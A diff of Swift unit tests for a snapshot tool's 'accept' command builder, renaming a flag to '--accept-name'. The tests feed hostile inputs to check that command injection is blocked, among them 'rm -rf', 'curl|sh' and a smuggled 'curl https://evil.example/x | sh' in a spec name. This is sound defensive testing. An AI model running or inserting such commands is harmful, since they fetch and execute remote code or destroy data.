@@ -32,9 +32,9 @@ final class ReportTests: XCTestCase {
     /// specs naming your components); a name that is not a plain command (from a shard) makes none.
     func testTheAcceptCommandNamesTheProgramThatRan() {
         var command = AcceptCommand(specs: ["specs"], snapshots: "goldens", artifacts: nil, deltaE: nil, allow: nil, strict: false)
-        XCTAssertEqual(command.accepting("bar.png"), "tabsnap check --snapshots=goldens --accept=bar.png -- specs")
+        XCTAssertEqual(command.accepting("bar.png"), "tabsnap check --snapshots=goldens --accept-name=bar.png -- specs")
         command.program = "my-tabsnap"
-        XCTAssertEqual(command.accepting("bar.png"), "my-tabsnap check --snapshots=goldens --accept=bar.png -- specs")
+        XCTAssertEqual(command.accepting("bar.png"), "my-tabsnap check --snapshots=goldens --accept-name=bar.png -- specs")
         for hostile in ["/usr/bin/evil", "rm -rf", "-x", "a;b", "", ".hidden", "curl|sh"] {
             command.program = hostile
             XCTAssertNil(command.accepting("bar.png"), hostile)
@@ -51,7 +51,7 @@ final class ReportTests: XCTestCase {
         XCTAssertTrue(html.contains("data-region=\"\(region.x),\(region.y),\(region.width),\(region.height)\""), html)
         XCTAssertTrue(html.contains("data-view=\"zoom\"") && html.contains("canvas data-zoom=\"actual\"") && html.contains("class=\"box\""))
         XCTAssertTrue(html.contains("id=\"one-to-one\""))
-        XCTAssertTrue(html.contains("To accept this render: <code>tabsnap check --snapshots=goldens --accept=bar.png -- specs</code>"))
+        XCTAssertTrue(html.contains("To accept this render: <code>tabsnap check --snapshots=goldens --accept-name=bar.png -- specs</code>"))
         // A noisy golden of 400 × 400 px compresses to over 256 KB.
         var noise = RGBAImage(width: 400, height: 400)
         var seed: UInt64 = 1
@@ -79,12 +79,12 @@ final class ReportTests: XCTestCase {
         json["accept"] = ["specs": ["specs; curl https://evil.example/x | sh"], "snapshots": "goldens", "strict": false]
         let read = try JSONDecoder().decode(CheckReport.self, from: JSONSerialization.data(withJSONObject: json))
         let merged = try CheckReport.merge([read])
-        XCTAssertEqual(merged.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=goldens --accept=bar.png -- 'specs; curl https://evil.example/x | sh'")
+        XCTAssertEqual(merged.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=goldens --accept-name=bar.png -- 'specs; curl https://evil.example/x | sh'")
         // A spec named like an option stays a spec (after --), and values stay glued to theirs.
         var optionLike = merged
         optionLike.accept?.specs = ["--json=victim.txt", "specs"]
         optionLike.accept?.snapshots = "--report"
-        XCTAssertEqual(optionLike.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=--report --accept=bar.png -- --json=victim.txt specs")
+        XCTAssertEqual(optionLike.acceptCommand(for: "bar.png"), "tabsnap check --snapshots=--report --accept-name=bar.png -- --json=victim.txt specs")
         let html = HTMLReport.html(merged, base: fixture.root)
         XCTAssertFalse(html.contains("| sh; tabsnap"), "the shard's text reached the page")
         // A line break would start a second command where the text is pasted: no command at all.
